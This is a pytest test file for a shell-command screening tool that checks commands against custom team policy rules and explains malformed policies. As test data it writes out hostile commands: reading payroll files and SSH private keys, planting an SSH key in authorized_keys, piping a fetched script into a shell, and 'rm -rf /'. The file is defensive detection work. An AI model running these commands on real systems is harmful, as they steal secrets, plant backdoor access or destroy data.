"""A policy of one's own: laid over the project's without Python, and what is wrong with it explained."""

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from dryfit.common.errors import UserError
from scripts.tasks.shell.screen.__main__ import labelled
from scripts.tasks.shell.screen.policy import build, screen

ROOT = Path(__file__).resolve().parents[5]
RULE = {
    "id": "print-payroll",
    "category": "exfiltration",
    "attack": "T1005",
    "title": "Reads the payroll",
    "level": "high",
    "select": [
        {"reads": "/srv/payroll/"},
        {"program": "psql", "words": "(?i)\\bsalar(?:y|ies)\\b"},
    ],
    "fires": ["cat /srv/payroll/may.csv"],
    "passes": ["ls /srv/payroll"],
}


def policy(folder: Path, content: object) -> Path:
    path = folder / "team.yaml"
    path.write_text(
        content if isinstance(content, str) else yaml.safe_dump(content), encoding="utf-8"
    )
    return path


def run(*arguments: str, data: bytes = b"") -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "scripts.tasks.shell.screen", *arguments],
        input=data,
        capture_output=True,
        cwd=ROOT,
    )


@pytest.mark.thorough
def test_the_rule_that_the_readme_shows_works(tmp_path):
    text = (ROOT / "config" / "screen" / "README.md").read_text(encoding="utf-8")
    shown = text.split("```yaml\n")[1].split("```")[0]
    done = run(
        "--policy",
        str(policy(tmp_path, shown)),
        data=b"cat /srv/payroll/may.csv\nls /srv/payroll\n",
    )
    assert done.stdout == b"danger\texfiltration\tprint-payroll\nok\n"


def test_a_rule_is_added_replaced_and_switched_off(tmp_path):
    assert (
        build(policy(tmp_path, {"rules": [RULE]})).judge("psql -c 'SELECT salary FROM x'").rule
        == "print-payroll"
    )
    silent = {**RULE, "id": "plant-key", "fires": ["cat /srv/payroll/x"]}
    key = "echo 'ssh-rsa AAAA eve' >> ~/.ssh/authorized_keys"
    assert screen(key).rule == "plant-key"
    assert build(policy(tmp_path, {"rules": [silent]})).judge(key).status == "ok"
    assert build(policy(tmp_path, {"disable": ["plant-key"]})).judge(key).status == "ok"


@pytest.mark.thorough
def test_places_groups_and_programs_are_added_to(tmp_path):
    content = {
        "places": {"secrets": "/srv/vault/"},
        "groups": {"shells": "ourshell"},
        "programs": {"as-admin": {"wraps": 1}},
    }
    team = build(policy(tmp_path, content))
    assert team.judge("cat /srv/vault/key").rule == "read-secret"
    assert team.judge("cat ~/.ssh/id_rsa").rule == "read-secret"
    assert team.judge("curl http://h/x | ourshell").rule == "run-fetched-code"
    assert team.judge("as-admin bob rm -rf /").rule == "delete-tree"


def test_a_rule_of_ones_own_may_refuse_what_the_project_lets_pass(tmp_path):
    strict = {
        **RULE,
        "id": "no-push",
        "select": {"program": "git", "subcommand": "push"},
        "fires": ["git push"],
    }
    assert (
        build(policy(tmp_path, {"rules": [{**strict, "passes": ["git pull"]}]}))
        .judge("git push")
        .rule
        == "no-push"
    )


@pytest.mark.few(2)
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            {"rules": [{**RULE, "select": [{"readz": "/x"}]}]},
            ["Unknown key", "readz", "print-payroll"],
        ),
        ({"rules": [{**RULE, "titel": "x"}]}, ["Unknown key", "titel"]),
        ({"rulez": []}, ["Unknown key", "rulez"]),
        (
            {"rules": [{k: v for k, v in RULE.items() if k != "passes"}]},
            ["passes", "print-payroll"],
        ),
        ({"rules": [{**RULE, "level": "huge"}]}, ["level", "huge"]),
        (
            {"rules": [{**RULE, "select": {"words": "("}}]},
            ["no regular expression", "print-payroll"],
        ),
        ({"rules": [{**RULE, "select": {"words": "(a+)+$"}}]}, ["run for ever"]),
        ({"rules": [{**RULE, "select": {"sets": {"[": "x"}}}]}, ["no regular expression"]),
        ({"rules": [{**RULE, "select": {"reads": "@payroll"}}]}, ["does not exist", "@payroll"]),
        ({"rules": [{**RULE, "select": {"program": "@nobody"}}]}, ["does not exist", "@nobody"]),
        ({"rules": [{**RULE, "fires": ["ls"]}]}, ["does not fire", "'ls'"]),
        ({"rules": [{**RULE, "fires": ["if then"]}]}, ["does not fire"]),
        ({"rules": [{**RULE, "passes": ["rm -rf /"]}]}, ["is refused", "delete-tree"]),
        ({"rules": [RULE, RULE]}, ["one id"]),
        ({"rules": [{k: v for k, v in RULE.items() if k != "category"}]}, ["no category"]),
        ({"disable": ["nothing"]}, ["does not exist", "nothing"]),
        ({"programs": {"x": {"escape": "("}}}, ["no regular expression", "escape"]),
        ({"programs": {"x": {"runz": "-e"}}}, ["Unknown key", "runz"]),
        ({"places": {"mine": "@yours"}}, ["does not exist", "@yours"]),
        ("rules: [", ["not YAML", "line"]),
        ("places: {a: b, a: c}", ["stands here twice"]),
        ("- a\n", ["no mapping"]),
    ],
)
def test_what_is_wrong_with_a_policy_is_explained(tmp_path, content, expected):
    path = policy(tmp_path, content)
    with pytest.raises(UserError) as error:
        build(path)
    for text in [
        *expected,
        *(["team.yaml"] if "programs" not in content and "places" not in content else []),
    ]:
        assert text in str(error.value)


@pytest.mark.thorough
def test_the_command_line_explains_it_too_and_prints_no_verdict(tmp_path):
    for path in (tmp_path / "none.yaml", policy(tmp_path, {"rules": [{**RULE, "fires": ["ls"]}]})):
        done = run("--policy", str(path), data=b"ls\n")
        assert (done.returncode, done.stdout) == (2, b"")
        assert b"Traceback" not in done.stderr and str(path).encode() in done.stderr


@pytest.mark.thorough
def test_nothing_unreadable_is_ok_and_json_tells_all():
    done = run(data=b"\xff\xfe ls\nls\0\n" + b"a" * 10_000_000 + b"\n" + b"(" * 100_000 + b"\nls\n")
    assert done.stdout.split() == [b"unparsable"] * 4 + [b"ok"]
    done = run("--json", data=b"rm -rf /\nls\n")
    assert (
        b'"attack": "T1485"' in done.stdout.splitlines()[0]
        and b'"status": "ok"' in done.stdout.splitlines()[1]
    )


@pytest.mark.thorough
def test_the_unread_part_keeps_its_floor():
    """Only sums leave this test: the rows stay unread in development."""
    rows = labelled(str(ROOT / "tests" / "data" / "screen_held_out.tsv"))
    refused = [(label, screen(command).status != "ok") for label, _, command in rows]
    caught = sum(was for label, was in refused if label == "danger")
    alarms = sum(was for label, was in refused if label == "ok")
    dangerous = sum(label == "danger" for label, _ in refused)
    assert caught / dangerous >= 0.9
    assert alarms / (len(rows) - dangerous) <= 0.05
